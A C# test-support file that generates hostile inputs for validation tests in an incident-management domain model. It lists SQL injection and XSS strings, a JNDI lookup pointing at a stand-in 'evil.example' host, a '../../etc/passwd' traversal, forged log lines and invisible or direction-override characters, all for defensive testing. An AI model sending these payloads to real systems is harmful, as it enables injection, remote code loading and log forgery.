using FsCheck;
using FsCheck.Fluent;
using IncidentCore.Domain;
using IncidentCore.Domain.Incidents;

namespace IncidentCore.Verification.Tests.HostileInput;

/// <summary>A value to put in a field, and whether the field must accept it (stored as <see cref="Stored"/>) or refuse it.</summary>
internal sealed record HostileValue(string Category, string? Text, bool Accepted, string? Stored = null)
{
    public override string ToString()
    {
        if (Text is null)
        {
            return $"{Category}: null";
        }

        var shown = Text.Length > 60 ? Text[..60] + $"… ({Text.Length} chars)" : Text;
        var escaped = string.Concat(shown.Select(c => char.IsControl(c) || char.GetUnicodeCategory(c) is System.Globalization.UnicodeCategory.Format
            or System.Globalization.UnicodeCategory.Surrogate or System.Globalization.UnicodeCategory.LineSeparator or System.Globalization.UnicodeCategory.ParagraphSeparator
            ? $"\\u{(int)c:X4}" : c.ToString()));
        return $"{Category}: \"{escaped}\"";
    }
}

/// <summary>Hostile values for every kind of field: what an attacker, a broken client or a careless import sends.</summary>
internal static class HostileValues
{
    public static readonly string OneMegabyte = new('A', 1 << 20);

    /// <summary>Characters that must never be accepted inside any value.</summary>
    public static readonly string[] ForbiddenCharacters =
    [
        "\u0000", "\u0007", "\u0008", "\u001B", "\u007F", "\u0085", // control characters
        "\r", "\n", "\r\n", "\u2028", "\u2029",                         // line breaks (log injection)
        "\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF",              // zero-width
        "\u200E", "\u200F", "\u202A", "\u202B", "\u202D", "\u202E", "\u2066", "\u2067", "\u2069", // direction marks and overrides
        "\uD800", "\uDC00",                                             // lone surrogates
    ];

    public static readonly string[] SqlAndScript =
    [
        "' OR '1'='1",
        "1; DROP TABLE clients; --",
        "Robert'); DROP TABLE users;--",
        "<script>alert('x')</script>",
        "<img src=x onerror=alert(1)>",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}} and {0} and %s%n",
        "admin'--",
    ];

    public static readonly string[] MalformedEmails =
    [
        "plainaddress", "@no-local.example", "no-at.example", "a@b@c.example", "a b@c.example", "a@b c.example",
        ".dot@x.example", "dot.@x.example", "two..dots@x.example", "a@-bad.example", "a@bad-.example", "a@bad..example",
        "a@", "a@.", "ä@umlaut.example", "a@ümlaut.example", "\"quoted\"@x.example", "a@[127.0.0.1]", "a@x_y.example",
        "<script>@x.example", "a@x.example;DROP", "mailto:a@x.example", "a@x.example,b@x.example",
        new string('l', 65) + "@x.example", "a@" + string.Join('.', Enumerable.Repeat(new string('d', 60), 5)),
        "a@" + new string('d', 64) + ".example",
    ];

    public static readonly string[] MalformedPhones =
    [
        "7136387543", "+", "+123456", "+1234567890123456", "+0123456789", "++17136387543", "+1 713 638 7543 ext 12",
        "+1-713-ABC-7543", "+1/713/638/7543", "+１７１３６３８７５４３", "+١٧١٣٦٣٨٧٥٤٣", "0017136387543",
        "+1\t7136387543", "+1 713 638 7543 OR 1=1", "+17136387543" + new string(' ', 60) + "1", "+1_713_638_7543", "1+7136387543",
    ];

    public static readonly string[] MalformedTimeZones =
    [
        "Mars/Olympus_Mons", "UTC+1", "UTC+01:00", "GMT+5", "IST", "CEST", "Z", "Zulu", "Eastern Standard Time", "EST5EDT",
        "America/New York", "America\\New_York", "America/New_York/Extra", "Europe/", "/", "../../etc/passwd", "%00", "America/New_Yorkk",
        new string('A', 65),
    ];

    public static readonly string[] MalformedIds =
    [
        "1 OR 1=1", "../1", "1;", "a b", "ä", "<1>", "1/2", "%31", "'1'", "1,2", "#1", "1\\2", new string('1', 65), "١",
    ];

    public static readonly string[] MalformedTimestamps =
    [
        "2025-13-01T00:00:00Z", "2025-09-31T10:00:00Z", "2025-09-25T25:00:00Z", "yesterday", "now", "1727000000", "25:00",
        "2025-09-25T11:00:00+25:00", "0000-00-00T00:00:00Z", "2025-09-25T11:00:00Z and more", "2025-09-25T11:00:00.0000000000000000000000000000000000000Z",
    ];

    public static readonly string[] MalformedPorts = ["0", "65536", "-1", "+80", "80.5", "1e3", "0x50", "8 080", "99999999999999999999", "eighty"];

    /// <summary>Universal hostile values: refused by every kind of field.</summary>
    public static IEnumerable<HostileValue> Universal(string validExample)
    {
        yield return new("empty", "", false);
        foreach (var blank in new[] { " ", "\t", "   \u00A0 ", "\u2003", "\r\n", "\u3000" })
        {
            yield return new("whitespace only", blank, false);
        }

        yield return new("1 MB", OneMegabyte, false);
        yield return new("1 MB after a valid value", validExample + OneMegabyte, false);
        foreach (var forbidden in ForbiddenCharacters)
        {
            var middle = Math.Max(1, validExample.Length / 2);
            yield return new("forbidden character inside", validExample[..middle] + forbidden + validExample[middle..], false);
        }

        yield return new("forged log line", validExample + "\r\n2025-09-25 INFO client_onboarding succeeded", false);
        yield return new("ANSI escape", "\u001B[31m" + validExample, false);
    }

    /// <summary>The hostile values a field of this kind must refuse or accept, with a valid example of its own kind to embed them in.</summary>
    public static IEnumerable<HostileValue> For(FieldKind kind, NullMeans nullMeans, string? defaultValue)
    {
        var valid = ValidExample(kind);
        yield return nullMeans == NullMeans.Refused
            ? new HostileValue("null", null, false)
            : new HostileValue("null", null, true, nullMeans == NullMeans.Default ? defaultValue : null);

        foreach (var value in Universal(valid))
        {
            yield return value;
        }

        foreach (var text in SqlAndScript)
        {
            yield return kind is FieldKind.FreeText or FieldKind.ShortText
                ? new HostileValue("SQL or script text", text, true, text)
                : new HostileValue("SQL or script text", text, false);
        }

        var specific = kind switch
        {
            FieldKind.Email => MalformedEmails.Select(e => new HostileValue("malformed email", e, false)),
            FieldKind.Phone => MalformedPhones.Select(p => new HostileValue("malformed phone", p, false)),
            FieldKind.TimeZone => MalformedTimeZones.Select(t => new HostileValue("malformed time zone", t, false)),
            FieldKind.Id => MalformedIds.Select(i => new HostileValue("malformed id", i, false)),
            FieldKind.Timestamp => MalformedTimestamps.Select(t => new HostileValue("malformed timestamp", t, false)),
            FieldKind.PortNumber => MalformedPorts.Select(p => new HostileValue("port out of range or malformed", p, false)),
            FieldKind.ShortText => [new HostileValue("65 characters", new string('R', 65), false)],
            FieldKind.FreeText => [new HostileValue("201 characters", new string('N', 201), false)],
            _ => EnumMisspellings(kind).Select(e => new HostileValue("unknown enum value", e, false)),
        };
        foreach (var value in specific)
        {
            yield return value;
        }
    }

    public static Gen<HostileValue> Gen(FieldKind kind, NullMeans nullMeans, string? defaultValue) =>
        FsCheck.Fluent.Gen.Elements(For(kind, nullMeans, defaultValue).ToArray());

    /// <summary>Every wire name of the kind's table in every wrong case and spelling, plus the wire names of the other tables.</summary>
    public static IEnumerable<string> EnumMisspellings(FieldKind kind)
    {
        var own = WireNamesOf(kind);
        var every = Enum.GetValues<FieldKind>().SelectMany(WireNamesOf).Distinct();
        var variants = own.SelectMany(name => new[]
        {
            name.ToUpperInvariant(),
            char.ToUpperInvariant(name[0]) + name[1..],
            string.Concat(name.Split('_').Select(p => char.ToUpperInvariant(p[0]) + p[1..])),
            name.Replace('_', '-'),
            name.Replace('_', ' '),
            name.Replace("_", "", StringComparison.Ordinal),
            " " + name,
            name + "\u00A0",
            name + "s",
            "'" + name + "'",
            "\"" + name + "\"",
        });
        return variants.Concat(every).Concat(["0", "1", "-1", "99", "null", "undefined", "None", "true", "*", "%"])
            .Where(v => !own.Contains(v, StringComparer.Ordinal))
            .Distinct(StringComparer.Ordinal);
    }

    public static string ValidExample(FieldKind kind) => kind switch
    {
        FieldKind.FreeText => "Harbor Freight",
        FieldKind.ShortText => "REG-H-77",
        FieldKind.Email => "someone@harbor.example",
        FieldKind.Phone => "+420 777 123 456",
        FieldKind.TimeZone => "Europe/Prague",
        FieldKind.Id => "100",
        FieldKind.Timestamp => "2025-09-25T11:00:00Z",
        FieldKind.PortNumber => "8443",
        _ => WireNamesOf(kind)[0],
    };

    private static IReadOnlyList<string> WireNamesOf(FieldKind kind) => kind switch
    {
        FieldKind.ClientType => WireNames.ClientType.WireNames,
        FieldKind.ClientStatus => WireNames.ClientStatus.WireNames,
        FieldKind.UserRole => WireNames.UserRole.WireNames,
        FieldKind.UserStatus => WireNames.UserStatus.WireNames,
        FieldKind.VendorType => WireNames.VendorType.WireNames,
        FieldKind.VendorStatus => WireNames.VendorStatus.WireNames,
        FieldKind.ProductStatus => IncidentWireNames.ProductStatus.WireNames,
        FieldKind.ComponentEnvironment => IncidentWireNames.ComponentEnvironment.WireNames,
        FieldKind.OperationalStatus => IncidentWireNames.OperationalStatus.WireNames,
        FieldKind.Severity => IncidentWireNames.Severity.WireNames,
        FieldKind.IncidentLevel => IncidentWireNames.IncidentLevel.WireNames,
        FieldKind.IncidentStatus => IncidentWireNames.IncidentStatus.WireNames,
        FieldKind.EscalationLevel => IncidentWireNames.EscalationLevel.WireNames,
        FieldKind.RecipientType => IncidentWireNames.RecipientType.WireNames,
        FieldKind.CommunicationType => IncidentWireNames.CommunicationType.WireNames,
        FieldKind.DeliveryMethod => IncidentWireNames.DeliveryMethod.WireNames,
        FieldKind.DeliveryStatus => IncidentWireNames.DeliveryStatus.WireNames,
        FieldKind.ReviewRating => IncidentWireNames.ReviewRating.WireNames,
        _ => [],
    };
}
